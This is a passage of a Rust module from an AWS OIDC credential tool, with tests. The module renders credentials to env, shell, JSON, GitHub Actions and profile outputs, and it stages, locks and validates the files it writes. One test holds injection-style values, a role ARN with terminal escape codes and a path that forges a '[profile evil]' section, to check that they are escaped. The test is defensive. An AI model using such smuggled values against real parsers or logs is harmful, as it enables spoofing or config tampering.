//! Handing the credentials on: one writer per format, and a plan that renders
//! everything in memory first, stages every file, and only then commits them,
//! so that a failure leaves no new or partial file behind. Streams the user named
//! (a fifo, `/dev/stderr`) cannot be staged: they are written through, after the
//! files are staged and before they are committed.

pub mod github;
pub mod profile;
pub mod shell;

use std::collections::BTreeMap;
use std::io::Write as _;
use std::path::{Path, PathBuf};
use std::str::FromStr;

use serde::Serialize;

use crate::aws::credentials::{Assumed, human_duration, now_secs};

/// An output format.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Format {
    Env,
    Sh,
    Fish,
    PowerShell,
    Json,
    /// Masks, `GITHUB_ENV` and `GITHUB_OUTPUT`.
    GitHub,
    /// Masks and `GITHUB_OUTPUT` only (the credentials stay out of later steps' environment).
    GitHubOutputs,
    Profile(String),
    /// The ID token itself, to this file; the other outputs then carry the SDK's
    /// web-identity variables instead of keys.
    WebIdentity,
}

/// The SDKs' own web-identity hand-off: role, token file, session name.
#[derive(Clone, Debug)]
pub struct WebIdentity {
    pub role_arn: String,
    pub session_name: String,
    pub token_file: PathBuf,
    pub token: crate::secret::Secret,
}

/// How the outputs are rendered beyond their format.
#[derive(Clone, Debug, Default)]
pub struct RenderOptions {
    pub github: GitHubOptions,
    /// Set when `--output web-identity` is among the destinations.
    pub web_identity: Option<WebIdentity>,
    /// `--refreshable`: profiles get this `credential_process` command line instead of keys.
    pub refreshable: Option<String>,
}

/// Choices that only the GitHub formats use.
#[derive(Clone, Debug, Default)]
pub struct GitHubOptions {
    /// Also mask the account id.
    pub mask_account_id: bool,
    /// Also set step outputs `aws-access-key-id`, `aws-secret-access-key`, `aws-session-token`.
    pub output_credentials: bool,
}

/// A format and where it goes (`None`: stdout).
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Destination {
    pub format: Format,
    pub path: Option<PathBuf>,
}

impl FromStr for Destination {
    type Err = String;

    fn from_str(s: &str) -> Result<Destination, String> {
        let (name, arg) = match s.split_once('=') {
            Some((n, a)) => (n.trim(), Some(a)),
            None => (s.trim(), None),
        };
        let path = arg
            .filter(|a| *a != "-" && !a.is_empty())
            .map(PathBuf::from);
        let format = match name {
            "env" | "dotenv" => Format::Env,
            "sh" | "bash" | "zsh" => Format::Sh,
            "fish" => Format::Fish,
            "powershell" | "pwsh" => Format::PowerShell,
            "json" | "credential-process" => Format::Json,
            "github" | "github-outputs" => {
                if arg.is_some() {
                    return Err(
                        "the github formats take no path: they write $GITHUB_ENV and $GITHUB_OUTPUT".into(),
                    );
                }
                if name == "github" {
                    Format::GitHub
                } else {
                    Format::GitHubOutputs
                }
            }
            "web-identity" => Format::WebIdentity,
            "profile" => {
                let profile = arg.unwrap_or_default().trim();
                if profile.is_empty()
                    || !profile
                        .chars()
                        .all(|c| c.is_ascii_alphanumeric() || "-_.@+{}".contains(c))
                {
                    return Err(
                        "`profile` needs a name: --output profile=NAME (letters, digits, -_.@+)"
                            .into(),
                    );
                }
                return Ok(Destination {
                    format: Format::Profile(profile.to_string()),
                    path: None,
                });
            }
            other => {
                return Err(format!(
                    "unknown output format `{other}` (expected env, sh, fish, powershell, json, github, github-outputs, web-identity or profile=NAME)"
                ));
            }
        };
        Ok(Destination { format, path })
    }
}

impl Destination {
    /// Whether this target prints credentials on stdout.
    pub fn writes_stdout(&self) -> bool {
        self.path.is_none()
            && !matches!(
                self.format,
                Format::GitHub | Format::GitHubOutputs | Format::Profile(_) | Format::WebIdentity
            )
    }
}

/// Where a console sign-in URL goes.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum UrlDest {
    Stdout,
    /// `$GITHUB_STEP_SUMMARY`, as a link.
    GitHubSummary,
    File(PathBuf),
}

impl FromStr for UrlDest {
    type Err = String;

    fn from_str(s: &str) -> Result<UrlDest, String> {
        Ok(match s.trim() {
            "" | "-" | "stdout" => UrlDest::Stdout,
            "github-summary" => UrlDest::GitHubSummary,
            path => UrlDest::File(PathBuf::from(path)),
        })
    }
}

/// Why the outputs could not be written.
#[derive(Debug, thiserror::Error)]
pub enum OutputError {
    #[error("{0}")]
    Usage(String),
    #[error(transparent)]
    Unrepresentable(#[from] shell::Unrepresentable),
    #[error("cannot write {path}: {err}")]
    Io { path: PathBuf, err: std::io::Error },
}

/// The variables every env-style format carries, in this order.
pub fn variables(a: &Assumed) -> Vec<(&'static str, String)> {
    let c = &a.credentials;
    vec![
        ("AWS_ACCESS_KEY_ID", c.access_key_id.clone()),
        (
            "AWS_SECRET_ACCESS_KEY",
            c.secret_access_key.expose().to_string(),
        ),
        ("AWS_SESSION_TOKEN", c.session_token.expose().to_string()),
        ("AWS_REGION", a.region.clone()),
        ("AWS_DEFAULT_REGION", a.region.clone()),
        ("AWS_CREDENTIAL_EXPIRATION", c.expiration_rfc3339()),
    ]
}

/// The variables of the SDKs' web-identity provider, in this order.
pub fn web_identity_variables(w: &WebIdentity, region: &str) -> Vec<(&'static str, String)> {
    vec![
        ("AWS_ROLE_ARN", w.role_arn.clone()),
        (
            "AWS_WEB_IDENTITY_TOKEN_FILE",
            w.token_file.display().to_string(),
        ),
        ("AWS_ROLE_SESSION_NAME", w.session_name.clone()),
        ("AWS_REGION", region.to_string()),
        ("AWS_DEFAULT_REGION", region.to_string()),
    ]
}

/// The `credential_process` document.
pub fn json(a: &Assumed) -> String {
    #[derive(Serialize)]
    #[serde(rename_all = "PascalCase")]
    struct Doc<'a> {
        version: u8,
        access_key_id: &'a str,
        secret_access_key: &'a str,
        session_token: &'a str,
        expiration: String,
        account_id: &'a str,
    }
    let c = &a.credentials;
    let doc = Doc {
        version: 1,
        access_key_id: &c.access_key_id,
        secret_access_key: c.secret_access_key.expose(),
        session_token: c.session_token.expose(),
        expiration: c.expiration_rfc3339(),
        account_id: &a.account_id,
    };
    serde_json::to_string(&doc).unwrap_or_default() + "\n"
}

/// Checks a set of destinations before anything is fetched: one stdout format at most.
pub fn validate(destinations: &[Destination]) -> Result<(), OutputError> {
    let on_stdout: Vec<&Destination> = destinations.iter().filter(|t| t.writes_stdout()).collect();
    if on_stdout.len() > 1 {
        return Err(OutputError::Usage(
            "only one output can go to stdout; give the others a path (e.g. --output env=aws.env)"
                .into(),
        ));
    }
    Ok(())
}

/// Everything the outputs will write, rendered but not yet written.
#[derive(Default)]
pub struct Plan {
    stdout: String,
    files: Vec<FileOut>,
    /// Profile updates: applied at [`Plan::apply`] to each file as it is then, under its lock.
    edits: Vec<IniEdit>,
    appends: Vec<(PathBuf, String)>,
    /// What was written where, for the summary line.
    pub written: Vec<String>,
}

/// One whole file the plan writes.
struct FileOut {
    path: PathBuf,
    content: String,
    /// A stream output (env, sh, json, the console URL…) takes a device or fifo as its
    /// destination and writes straight through it; profiles and the token file, which are
    /// read back later, need a regular file.
    use_: Use,
}

/// One profile's keys in one shared INI file: `remove` dropped from `[section]`, then
/// `set` written into it. (No `Debug`: the values are credentials.)
struct IniEdit {
    path: PathBuf,
    section: String,
    remove: Vec<&'static str>,
    set: Vec<(&'static str, String)>,
}

impl IniEdit {
    fn apply_to(&self, text: &str) -> Result<String, shell::Unrepresentable> {
        let text = if self.remove.is_empty() {
            text.to_string()
        } else {
            profile::remove(text, &self.section, &self.remove)
        };
        if self.set.is_empty() {
            return Ok(text);
        }
        let pairs: Vec<(&str, &str)> = self.set.iter().map(|(k, v)| (*k, v.as_str())).collect();
        profile::update(&text, &self.section, &pairs)
    }
}

/// How long a run waits for another to finish rewriting a shared profile file.
const LOCK_WAIT: std::time::Duration = std::time::Duration::from_secs(30);

/// How a destination is used, for [`check_file`].
#[derive(Clone, Copy, PartialEq, Eq)]
enum Use {
    Stream,
    File,
    TokenFile,
}

/// Why `path` cannot be written as `use_`, if it cannot: a device or fifo suits a stream
/// only; a link, a directory, a socket or a block device suit nothing.
fn refusal(path: &Path, kind: crate::fs::DestKind, use_: Use) -> Option<String> {
    use crate::fs::DestKind;
    match (kind, use_) {
        (DestKind::Absent | DestKind::Regular, _) | (DestKind::Stream(_), Use::Stream) => None,
        (DestKind::Symlink, _) => Some(format!(
            "{} is a symbolic link; refusing to write credentials through it",
            path.display()
        )),
        (DestKind::Stream(_), Use::TokenFile) => Some(format!(
            "{} is {}, not a file: SDKs re-read the web-identity token file, so it must be a regular file",
            path.display(),
            kind.describe()
        )),
        (DestKind::Stream(_), Use::File) | (DestKind::Other(_), _) => Some(format!(
            "{} is {}, not a file",
            path.display(),
            kind.describe()
        )),
    }
}

/// Refuses a destination that cannot take `use_` (a path that cannot even be looked at is
/// left to the write, which reports why).
fn check_file(path: &Path, use_: Use) -> Result<(), OutputError> {
    let Ok(kind) = crate::fs::dest_kind(path) else {
        return Ok(());
    };
    match refusal(path, kind, use_) {
        Some(why) => Err(OutputError::Usage(why)),
        None => Ok(()),
    }
}

/// The credentials and config files a profile goes to, checked: each must be a regular file
/// (or not exist yet), since it is read, merged and replaced.
fn profile_files(name: &str, env: &crate::env::Env) -> Result<[PathBuf; 2], OutputError> {
    let mut out = Vec::new();
    for (var, default) in [
        ("AWS_SHARED_CREDENTIALS_FILE", "credentials"),
        ("AWS_CONFIG_FILE", "config"),
    ] {
        let (path, from_var) = match env.get(var) {
            Some(p) => (PathBuf::from(p), true),
            None => (home(env)?.join(".aws").join(default), false),
        };
        let kind = crate::fs::dest_kind(&path).unwrap_or(crate::fs::DestKind::Absent);
        if !matches!(
            kind,
            crate::fs::DestKind::Absent | crate::fs::DestKind::Regular
        ) {
            let what = match kind {
                crate::fs::DestKind::Symlink => {
                    "a symbolic link, which credentials are not written through"
                }
                k => k.describe(),
            };
            return Err(OutputError::Usage(if from_var {
                format!(
                    "{var} is {}, not a file ({what}): point it at a file to write profile {name}",
                    path.display()
                )
            } else {
                format!(
                    "{} is {what}, not a file: set {var} to a file to write profile {name}",
                    path.display()
                )
            }));
        }
        out.push(path);
    }
    Ok([out[0].clone(), out[1].clone()])
}

/// The web-identity token file: as given, else in the runner's temp dir, else the current
/// directory; always absolute, since SDKs read it from wherever they run.
pub fn token_file_path(given: Option<PathBuf>, env: &crate::env::Env) -> PathBuf {
    let path = given.unwrap_or_else(|| {
        env.get("RUNNER_TEMP")
            .map(|d| PathBuf::from(d).join("aws-oidc-web-identity-token"))
            .unwrap_or_else(|| PathBuf::from("aws-oidc-web-identity-token"))
    });
    if path.is_absolute() {
        path
    } else {
        std::env::current_dir()
            .map(|d| d.join(&path))
            .unwrap_or(path)
    }
}

/// Checks, before anything is fetched, that every destination can take its output: a profile
/// needs regular files, a stream output a file, a device or a fifo (nothing is written here).
pub fn check_destinations(
    destinations: &[Destination],
    env: &crate::env::Env,
    url: Option<&UrlDest>,
) -> Result<(), OutputError> {
    for t in destinations {
        match &t.format {
            Format::Profile(name) => {
                profile_files(name, env)?;
            }
            Format::WebIdentity => {
                let path = token_file_path(t.path.clone(), env);
                check_file(&path, Use::TokenFile)?;
                if let Some(Format::Profile(name)) = destinations
                    .iter()
                    .map(|t| &t.format)
                    .find(|f| matches!(f, Format::Profile(_)))
                {
                    // The path goes into the profile as web_identity_token_file.
                    profile::check(
                        || format!("web_identity_token_file of profile {name}"),
                        &path.display().to_string(),
                    )
                    .map_err(|e| OutputError::Usage(e.to_string()))?;
                }
            }
            Format::GitHub | Format::GitHubOutputs => {}
            _ => {
                if let Some(p) = &t.path {
                    check_file(p, Use::Stream)?;
                }
            }
        }
    }
    if let Some(UrlDest::File(p)) = url {
        check_file(p, Use::Stream)?;
    }
    Ok(())
}

fn io_err(path: &Path) -> impl FnOnce(std::io::Error) -> OutputError + '_ {
    move |err| OutputError::Io {
        path: path.to_path_buf(),
        err,
    }
}

fn home(env: &crate::env::Env) -> Result<PathBuf, OutputError> {
    env.get("HOME")
        .or_else(|| env.get("USERPROFILE"))
        .map(PathBuf::from)
        .ok_or_else(|| OutputError::Usage("neither HOME nor USERPROFILE is set; set AWS_SHARED_CREDENTIALS_FILE and AWS_CONFIG_FILE".into()))
}

impl Plan {
    /// Renders every target. Reads the files it will update; writes nothing.
    pub fn render(
        destinations: &[Destination],
        a: &Assumed,
        env: &crate::env::Env,
        opts: &RenderOptions,
    ) -> Result<Plan, OutputError> {
        let mut plan = Plan::default();
        plan.render_into(destinations, a, env, opts)?;
        Ok(plan)
    }

    /// Adds more outputs to this plan (several targets' profiles then share one rewrite of
    /// each shared file). On an error, the plan is left as it was.
    pub fn render_into(
        &mut self,
        destinations: &[Destination],
        a: &Assumed,
        env: &crate::env::Env,
        opts: &RenderOptions,
    ) -> Result<(), OutputError> {
        let gh = &opts.github;
        let vars = match &opts.web_identity {
            Some(w) => web_identity_variables(w, &a.region),
            None => variables(a),
        };
        let before = (
            self.stdout.len(),
            self.files.len(),
            self.appends.len(),
            self.written.len(),
            self.edits.len(),
        );
        let result = self.render_destinations(destinations, a, env, opts, gh, &vars);
        if result.is_err() {
            self.stdout.truncate(before.0);
            self.files.truncate(before.1);
            self.appends.truncate(before.2);
            self.written.truncate(before.3);
            self.edits.truncate(before.4);
        }
        result
    }

    fn render_destinations(
        &mut self,
        destinations: &[Destination],
        a: &Assumed,
        env: &crate::env::Env,
        opts: &RenderOptions,
        gh: &GitHubOptions,
        vars: &[(&'static str, String)],
    ) -> Result<(), OutputError> {
        let plan = self;
        for t in destinations {
            let (content, label) = match &t.format {
                Format::Env => (shell::dotenv(vars)?, "dotenv"),
                Format::Sh => (shell::sh(vars), "sh"),
                Format::Fish => (shell::fish(vars), "fish"),
                Format::PowerShell => (shell::powershell(vars), "powershell"),
                Format::Json => (json(a), "credential_process JSON"),
                Format::GitHub => {
                    plan.render_github(a, Some(vars), env, gh)?;
                    continue;
                }
                Format::GitHubOutputs => {
                    plan.render_github(a, None, env, gh)?;
                    continue;
                }
                Format::Profile(name) => {
                    plan.render_profile(name, a, env, opts)?;
                    continue;
                }
                Format::WebIdentity => {
                    let w = opts.web_identity.as_ref().ok_or_else(|| {
                        OutputError::Usage("web-identity needs the ID token".into())
                    })?;
                    check_file(&w.token_file, Use::TokenFile)?;
                    plan.written
                        .push(format!("ID token to {}", w.token_file.display()));
                    // Exactly the token: SDKs send the file's bytes verbatim.
                    plan.files.push(FileOut {
                        path: w.token_file.clone(),
                        content: w.token.expose().to_string(),
                        use_: Use::TokenFile,
                    });
                    continue;
                }
            };
            match &t.path {
                None => {
                    plan.stdout.push_str(&content);
                    plan.written.push(format!("{label} on stdout"));
                }
                Some(path) => {
                    check_file(path, Use::Stream)?;
                    plan.written.push(format!("{label} to {}", path.display()));
                    plan.files.push(FileOut {
                        path: path.clone(),
                        content,
                        use_: Use::Stream,
                    });
                }
            }
        }
        Ok(())
    }

    /// Masks on stdout, then (with `vars`) `GITHUB_ENV`, then step outputs.
    fn render_github(
        &mut self,
        a: &Assumed,
        vars: Option<&[(&str, String)]>,
        env: &crate::env::Env,
        gh: &GitHubOptions,
    ) -> Result<(), OutputError> {
        let c = &a.credentials;
        let file = |name: &str| {
            env.get(name).map(PathBuf::from).ok_or_else(|| {
                OutputError::Usage(format!(
                    "the github outputs need ${name} (it is set inside GitHub Actions steps)"
                ))
            })
        };
        let mut masked = vec![
            c.access_key_id.as_str(),
            c.secret_access_key.expose(),
            c.session_token.expose(),
        ];
        if gh.mask_account_id {
            masked.push(&a.account_id);
        }
        self.stdout.push_str(&github::masks(&masked));
        if let Some(vars) = vars {
            self.appends
                .push((file("GITHUB_ENV")?, github::file_commands(vars)));
            self.written.push("GITHUB_ENV".into());
        }
        let mut outputs = vec![
            ("aws-account-id", a.account_id.clone()),
            ("authenticated-arn", a.assumed_role_arn.clone()),
            ("aws-expiration", c.expiration_rfc3339()),
        ];
        if gh.output_credentials {
            outputs.extend([
                ("aws-access-key-id", c.access_key_id.clone()),
                (
                    "aws-secret-access-key",
                    c.secret_access_key.expose().to_string(),
                ),
                ("aws-session-token", c.session_token.expose().to_string()),
            ]);
        }
        let output_file = if vars.is_some() {
            // GITHUB_ENV is the point; outputs are a bonus where the runner offers them.
            env.get("GITHUB_OUTPUT").map(PathBuf::from)
        } else {
            Some(file("GITHUB_OUTPUT")?)
        };
        if let Some(out) = output_file {
            self.appends.push((out, github::file_commands(&outputs)));
            self.written.push("GITHUB_OUTPUT".into());
        }
        Ok(())
    }

    fn render_profile(
        &mut self,
        name: &str,
        a: &Assumed,
        env: &crate::env::Env,
        opts: &RenderOptions,
    ) -> Result<(), OutputError> {
        let c = &a.credentials;
        let [credentials_path, config_path] = profile_files(name, env)?;
        let expiration = c.expiration_rfc3339();
        let key_names = [
            "aws_access_key_id",
            "aws_secret_access_key",
            "aws_session_token",
            "aws_credential_expiration",
        ];
        let section = if name == "default" {
            "default".to_string()
        } else {
            format!("profile {name}")
        };
        let region = ("region", a.region.clone());
        let (creds_remove, creds_set, config_remove, config_set) =
            if let Some(w) = &opts.web_identity {
                (
                    key_names.to_vec(),
                    vec![],
                    vec!["credential_process"],
                    vec![
                        region,
                        ("role_arn", w.role_arn.clone()),
                        (
                            "web_identity_token_file",
                            w.token_file.display().to_string(),
                        ),
                        ("role_session_name", w.session_name.clone()),
                    ],
                )
            } else if let Some(command) = &opts.refreshable {
                (
                    key_names.to_vec(),
                    vec![],
                    vec!["role_arn", "web_identity_token_file", "role_session_name"],
                    vec![region, ("credential_process", command.clone())],
                )
            } else {
                (
                    vec![],
                    vec![
                        (key_names[0], c.access_key_id.clone()),
                        (key_names[1], c.secret_access_key.expose().to_string()),
                        (key_names[2], c.session_token.expose().to_string()),
                        (key_names[3], expiration),
                    ],
                    vec![
                        "credential_process",
                        "role_arn",
                        "web_identity_token_file",
                        "role_session_name",
                    ],
                    vec![region],
                )
            };
        // The files are read now only to report an unreadable one before anything is written;
        // the update itself reads them again under their locks.
        for p in [&credentials_path, &config_path] {
            match std::fs::read(p) {
                Err(e) if e.kind() != std::io::ErrorKind::NotFound => return Err(io_err(p)(e)),
                _ => {}
            }
        }
        self.written.push(format!(
            "profile {name} to {} and {}",
            credentials_path.display(),
            config_path.display()
        ));
        let edits = [
            IniEdit {
                path: credentials_path,
                section: name.to_string(),
                remove: creds_remove,
                set: creds_set,
            },
            IniEdit {
                path: config_path,
                section,
                remove: config_remove,
                set: config_set,
            },
        ];
        // Every value is checked now, before anything is written (the real update, at
        // apply, runs the same check).
        for e in &edits {
            e.apply_to("")?;
        }
        self.edits.extend(edits);
        Ok(())
    }

    /// Adds the console sign-in URL (a bearer credential) and warns on stderr what it is.
    pub fn add_console_url(
        &mut self,
        dest: &UrlDest,
        url: &crate::secret::Secret,
        a: &Assumed,
        env: &crate::env::Env,
    ) -> Result<(), OutputError> {
        let line = format!("{}\n", url.expose());
        match dest {
            UrlDest::Stdout => {
                self.stdout.push_str(&line);
                self.written.push("console URL on stdout".into());
            }
            UrlDest::File(path) => {
                check_file(path, Use::Stream)?;
                self.files.push(FileOut {
                    path: path.clone(),
                    content: line,
                    use_: Use::Stream,
                });
                self.written
                    .push(format!("console URL to {}", path.display()));
            }
            UrlDest::GitHubSummary => {
                let path = env.get("GITHUB_STEP_SUMMARY").ok_or_else(|| {
                    OutputError::Usage("--console-url=github-summary needs $GITHUB_STEP_SUMMARY (set in GitHub Actions steps)".into())
                })?;
                let md = format!(
                    "### AWS console\n\n[Sign in to the AWS console as `{}`]({}) (the link works for 15 minutes; treat it as a password)\n\n",
                    a.assumed_role_arn,
                    url.expose()
                );
                self.appends.push((PathBuf::from(path), md));
                self.written.push("console URL to the job summary".into());
            }
        }
        tracing::warn!(
            "the console sign-in URL is a bearer credential: anyone holding it can sign in as {} for the next 15 minutes; keep it out of logs and chats",
            a.assumed_role_arn
        );
        Ok(())
    }

    /// Writes: every file staged first; then stdout (GitHub's masks must precede any use)
    /// and the devices and fifos named as stream outputs; then, only when all is staged,
    /// the files renamed into place; appends last.
    pub fn apply(self) -> Result<Vec<String>, OutputError> {
        let mut staged = Vec::new();
        let mut through = Vec::new();
        // Only the last content of a file counts (it holds every earlier update).
        let last: Vec<&FileOut> = self
            .files
            .iter()
            .enumerate()
            .filter(|(i, f)| !self.files[i + 1..].iter().any(|g| g.path == f.path))
            .map(|(_, f)| f)
            .collect();
        for f in last {
            let path = &f.path;
            let kind = crate::fs::dest_kind(path).map_err(io_err(path))?;
            if let Some(why) = refusal(path, kind, f.use_) {
                return Err(OutputError::Usage(why));
            }
            if matches!(kind, crate::fs::DestKind::Stream(_)) {
                through.push(f);
                continue;
            }
            if let Some(dir) = path.parent() {
                crate::fs::ensure_private_dir(dir).map_err(io_err(dir))?;
            }
            staged.push(
                crate::fs::stage_remakeable(path, f.content.as_bytes()).map_err(io_err(path))?,
            );
        }
        // Shared profile files: locked in path order (two runs writing both files cannot
        // deadlock), read as they are now, updated, staged; unlocked once renamed.
        let mut by_path: BTreeMap<&Path, Vec<&IniEdit>> = BTreeMap::new();
        for e in &self.edits {
            by_path.entry(&e.path).or_default().push(e);
        }
        let mut locks = Vec::new();
        for (path, edits) in by_path {
            if self.files.iter().any(|f| f.path == path) {
                return Err(OutputError::Usage(format!(
                    "{} is both a profile file and an output; give the output another path",
                    path.display()
                )));
            }
            if let Some(dir) = path.parent() {
                crate::fs::ensure_private_dir(dir).map_err(io_err(dir))?;
            }
            locks.push(crate::fs::lock(path, LOCK_WAIT).map_err(io_err(path))?);
            let kind = crate::fs::dest_kind(path).map_err(io_err(path))?;
            if let Some(why) = refusal(path, kind, Use::File) {
                return Err(OutputError::Usage(why));
            }
            let text = match std::fs::read_to_string(path) {
                Ok(t) => t,
                Err(e) if e.kind() == std::io::ErrorKind::NotFound => String::new(),
                Err(e) => return Err(io_err(path)(e)),
            };
            let mut warned = Vec::new();
            for e in &edits {
                let n = profile::sections(&text, &e.section);
                if n > 1 && !warned.contains(&&e.section) {
                    warned.push(&e.section);
                    tracing::warn!(
                        "{} has {n} [{}] sections: aws-oidc set its keys in the first and removed them from the others; merge them into one (the AWS CLI and boto3 refuse a file with a repeated section)",
                        path.display(),
                        e.section
                    );
                }
            }
            let text = edits.iter().try_fold(text, |t, e| e.apply_to(&t))?;
            staged.push(crate::fs::stage(path, text.as_bytes()).map_err(io_err(path))?);
        }
        if !self.stdout.is_empty() {
            let mut out = std::io::stdout().lock();
            out.write_all(self.stdout.as_bytes())
                .and_then(|_| out.flush())
                .map_err(io_err(Path::new("<stdout>")))?;
        }
        for f in through {
            crate::fs::write_through(&f.path, f.content.as_bytes()).map_err(io_err(&f.path))?;
        }
        for s in staged {
            let dest = s.dest().to_path_buf();
            s.commit().map_err(io_err(&dest))?;
        }
        drop(locks);
        for (path, content) in &self.appends {
            crate::fs::append(path, content.as_bytes()).map_err(io_err(path))?;
        }
        Ok(self.written)
    }
}

/// The one-line success summary for stderr.
pub fn summary(a: &Assumed, written: &[String]) -> String {
    let left = a.credentials.expiration.saturating_sub(now_secs());
    let mut line = format!(
        "aws-oidc: assumed {} (account {}), valid until {} ({})",
        a.assumed_role_arn,
        a.account_id,
        a.credentials.expiration_rfc3339(),
        if left >= 0 {
            human_duration(left)
        } else {
            format!("expired {} ago", human_duration(left))
        }
    );
    if !written.is_empty() {
        line.push_str("; wrote ");
        line.push_str(&written.join(", "));
    }
    // A role ARN or a path may hold anything; the line stays one line, and a terminal's.
    line.chars()
        .map(|c| {
            if c.is_control() {
                c.escape_default().to_string()
            } else {
                c.to_string()
            }
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::fs::test_nodes::{is_char_device, mkfifo, private_null};

    #[test]
    fn summary_escapes_control_characters() {
        let a = Assumed {
            credentials: crate::aws::credentials::Credentials {
                access_key_id: "ASIAEXAMPLE".into(),
                secret_access_key: crate::secret::Secret::new("s"),
                session_token: crate::secret::Secret::new("t"),
                expiration: now_secs() + 3600,
            },
            assumed_role_arn: "arn:aws:sts::123456789012:assumed-role/r/s\n\u{1b}[31mx".into(),
            account_id: "123456789012".into(),
            region: "eu-west-1".into(),
            chained: false,
        };
        let line = summary(&a, &["ID token to /tmp/a\n[profile evil]\r".into()]);
        assert!(!line.chars().any(char::is_control), "{line:?}");
        assert!(line.contains(r"assumed-role/r/s\n\u{1b}[31mx"), "{line}");
        assert!(
            line.contains(r"ID token to /tmp/a\n[profile evil]\r"),
            "{line}"
        );
    }

    use crate::aws::credentials::Credentials;
    use crate::secret::Secret;

    fn assumed() -> Assumed {
        Assumed {
            credentials: Credentials {
                access_key_id: "ASIAEXAMPLE".into(),
                secret_access_key: Secret::new("wJalr/K7+MDENG"),
                session_token: Secret::new("FwoGZX=="),
                expiration: 1_795_000_000,
            },
            assumed_role_arn: "arn:aws:sts::123456789012:assumed-role/deploy/gl-1-2-3".into(),
            account_id: "123456789012".into(),
            region: "eu-west-1".into(),
            chained: false,
        }
    }

    #[test]
    fn parses_targets() {
        let t: Destination = "env".parse().unwrap();
        assert_eq!(
            t,
            Destination {
                format: Format::Env,
                path: None
            }
        );
        let t: Destination = "env=out/aws.env".parse().unwrap();
        assert_eq!(t.path.as_deref(), Some(Path::new("out/aws.env")));
        let t: Destination = "sh=-".parse().unwrap();
        assert!(t.writes_stdout());
        let t: Destination = "profile=ci".parse().unwrap();
        assert_eq!(t.format, Format::Profile("ci".into()));
        assert!(!t.writes_stdout());
        assert!("profile".parse::<Destination>().is_err());
        assert!("profile=a b".parse::<Destination>().is_err());
        assert!("github=x".parse::<Destination>().is_err());
        assert!("yaml".parse::<Destination>().is_err());
    }

    #[test]
    fn one_stdout_output_only() {
        let two: Vec<Destination> = vec!["sh".parse().unwrap(), "json".parse().unwrap()];
        assert!(validate(&two).is_err());
        let ok: Vec<Destination> = vec![
            "sh".parse().unwrap(),
            "json=x.json".parse().unwrap(),
            "github".parse().unwrap(),
        ];
        assert!(validate(&ok).is_ok());
    }

    #[test]
    fn env_exact_bytes() {
        let s = shell::dotenv(&variables(&assumed())).unwrap();
        assert_eq!(
            s,
            "AWS_ACCESS_KEY_ID=ASIAEXAMPLE\nAWS_SECRET_ACCESS_KEY=wJalr/K7+MDENG\nAWS_SESSION_TOKEN=FwoGZX==\nAWS_REGION=eu-west-1\nAWS_DEFAULT_REGION=eu-west-1\nAWS_CREDENTIAL_EXPIRATION=2026-11-18T11:06:40Z\n"
        );
    }

    #[test]
    fn json_exact_bytes() {
        assert_eq!(
            json(&assumed()),
            "{\"Version\":1,\"AccessKeyId\":\"ASIAEXAMPLE\",\"SecretAccessKey\":\"wJalr/K7+MDENG\",\"SessionToken\":\"FwoGZX==\",\"Expiration\":\"2026-11-18T11:06:40Z\",\"AccountId\":\"123456789012\"}\n"
        );
    }

    #[test]
    fn github_writes_masks_env_and_outputs() {
        let dir = tempfile::tempdir().unwrap();
        let genv = dir.path().join("env");
        let gout = dir.path().join("out");
        std::fs::write(&genv, "EXISTING=1\n").unwrap();
        let env: crate::env::Env = [
            ("GITHUB_ENV".to_string(), genv.display().to_string()),
            ("GITHUB_OUTPUT".to_string(), gout.display().to_string()),
        ]
        .into();
        let plan = Plan::render(
            &["github".parse().unwrap()],
            &assumed(),
            &env,
            &RenderOptions::default(),
        )
        .unwrap();
        assert_eq!(
            plan.stdout,
            "::add-mask::ASIAEXAMPLE\n::add-mask::wJalr/K7+MDENG\n::add-mask::FwoGZX==\n"
        );
        let (_, env_content) = &plan.appends[0];
        let d = env_content
            .lines()
            .next()
            .unwrap()
            .split_once("<<")
            .unwrap()
            .1
            .to_string();
        assert!(env_content.contains(&format!(
            "AWS_SECRET_ACCESS_KEY<<{d}\nwJalr/K7+MDENG\n{d}\n"
        )));
        let (_, out_content) = &plan.appends[1];
        assert!(out_content.contains("\n2026-11-18T11:06:40Z\n"));
        assert!(out_content.contains("aws-account-id<<"));
        assert!(out_content.contains("\narn:aws:sts::123456789012:assumed-role/deploy/gl-1-2-3\n"));
    }

    #[test]
    fn github_without_github_env_is_a_usage_error() {
        let err = Plan::render(
            &["github".parse().unwrap()],
            &assumed(),
            &crate::env::Env::default(),
            &RenderOptions::default(),
        )
        .err()
        .unwrap();
        assert!(matches!(err, OutputError::Usage(_)));
    }

    #[test]
    fn profile_keeps_other_profiles() {
        let dir = tempfile::tempdir().unwrap();
        let creds = dir.path().join("credentials");
        let config = dir.path().join("config");
        std::fs::write(&creds, "# mine\n[other]\naws_access_key_id = X\n").unwrap();
        let env: crate::env::Env = [
            (
                "AWS_SHARED_CREDENTIALS_FILE".to_string(),
                creds.display().to_string(),
            ),
            ("AWS_CONFIG_FILE".to_string(), config.display().to_string()),
        ]
        .into();
        let plan = Plan::render(
            &["profile=ci".parse().unwrap()],
            &assumed(),
            &env,
            &RenderOptions::default(),
        )
        .unwrap();
        plan.apply().unwrap();
        assert_eq!(
            std::fs::read_to_string(&creds).unwrap(),
            "# mine\n[other]\naws_access_key_id = X\n\n[ci]\naws_access_key_id = ASIAEXAMPLE\naws_secret_access_key = wJalr/K7+MDENG\naws_session_token = FwoGZX==\naws_credential_expiration = 2026-11-18T11:06:40Z\n"
        );
        assert_eq!(
            std::fs::read_to_string(&config).unwrap(),
            "[profile ci]\nregion = eu-west-1\n"
        );
    }

    #[test]
    fn failed_staging_leaves_no_file() {
        let dir = tempfile::tempdir().unwrap();
        let good = dir.path().join("good.env");
        let bad = dir.path().join("missing-dir/x/../bad.env");
        std::fs::write(dir.path().join("missing-dir"), "a file, not a dir").unwrap();
        let destinations: Vec<Destination> = vec![
            format!("env={}", good.display()).parse().unwrap(),
            format!("json={}", bad.display()).parse().unwrap(),
        ];
        let plan = Plan::render(
            &destinations,
            &assumed(),
            &crate::env::Env::default(),
            &RenderOptions::default(),
        )
        .unwrap();
        assert!(plan.apply().is_err());
        assert!(!good.exists());
    }

    /// A private character device like /dev/null (never the real one); `None`, with the
    /// reason printed, where mknod is not allowed (it needs root).
    #[cfg(unix)]
    fn is_fifo(p: &Path) -> bool {
        use std::os::unix::fs::FileTypeExt;
